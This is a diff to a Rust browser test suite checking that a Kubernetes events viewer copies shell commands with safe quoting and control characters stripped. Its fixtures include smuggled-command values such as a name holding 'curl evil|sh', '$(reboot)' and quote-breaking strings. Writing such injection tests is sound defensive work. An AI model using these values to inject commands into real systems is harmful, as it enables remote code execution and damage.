@@ -132,9 +132,10 @@ fn a_copied_command_is_one_command_for_what_is_in_view() {
     };
     world.create(about("Kustomization", "apps", "kustomization-1"));
     world.create(about("Machine", "x\u{3}curl evil|sh\n", "machine-1"));
+    world.create(about("Volume", "a/b", "volume-1"));
     world.enter("?last=1h");
     let page = &world.browser;
-    page.until("document.querySelectorAll('.lane').length === 2");
+    page.until("document.querySelectorAll('.lane').length === 3");
     watch_clipboard(page);
     for (kind, object) in [
         ("Kustomization", "kustomization/apps"),
@@ -156,7 +157,31 @@ fn a_copied_command_is_one_command_for_what_is_in_view() {
         let expected = format!("tidings events --namespace=shop --for={object} --since=");
         assert!(copied.starts_with(&expected), "{copied:?}");
         assert!(!copied.chars().any(char::is_control), "{copied:?}");
+
+        // Its event has the same, at any time.
+        page.run("window.copied = ''; document.querySelector('#panel .items button').click()");
+        page.until(
+            "document.getElementById('panel-kind').textContent === 'Normal'
+            && document.querySelector('#panel .command button')",
+        );
+        page.run("document.querySelector('#panel .command button').click()");
+        page.until("window.copied");
+        let expected = format!("tidings events --namespace=shop --for={object}");
+        assert_eq!(page.text("copied"), expected);
     }
+
+    // What `--for` cannot name is left to kubectl.
+    world.open("?last=1h&show=event:/shop/volume-1");
+    page.until("document.querySelector('#panel .command')");
+    let commands = page.text(
+        "[...document.querySelectorAll('#panel .command code')]
+        .map((code) => code.textContent).join('; ')",
+    );
+    assert_eq!(
+        commands,
+        "kubectl get events --namespace=shop \
+         --field-selector=involvedObject.kind=Volume,involvedObject.name=a/b"
+    );
 
     world.open(
         "?from=2026-01-31T12:00:00.500Z&to=2026-01-31T13:00:00.500Z&text=%03-curl%0A\
@@ -189,4 +214,34 @@ fn a_copied_command_is_one_command_for_what_is_in_view() {
     assert!(!copied.contains('#'), "{copied:?}");
     let said = page.text(notices);
     assert!(!said.contains("does not express"), "{said}");
+}
+
+#[test]
+fn every_text_is_one_word_of_a_copied_command() {
+    let Some(world) = World::start(DESKTOP) else {
+        return;
+    };
+    world.enter("?last=1h");
+    let page = &world.browser;
+    for (text, expected) in [
+        ("pod/web-0", "pod/web-0"),
+        ("-v", "-v"),
+        ("-v%20x", "'-v x'"),
+        ("a%20b", "'a b'"),
+        ("$(reboot)", "'$(reboot)'"),
+        ("a';reboot;'", r"'a'\'';reboot;'\'''"),
+        ("a%0Areboot%0A", "areboot"),
+        // C1 has the start of an escape sequence, too.
+        ("a%C2%9Bb", "ab"),
+        // Nothing is left of it.
+        ("%1B", "''"),
+    ] {
+        world.open(&format!("?last=1h&text={text}"));
+        watch_clipboard(page);
+        page.run("document.getElementById('export-command').click()");
+        page.until("window.copied");
+        let copied = page.text("copied");
+        let expected = format!("tidings events -A --grep={expected} --since=");
+        assert!(copied.starts_with(&expected), "{text}: {copied:?}");
+    }
 }
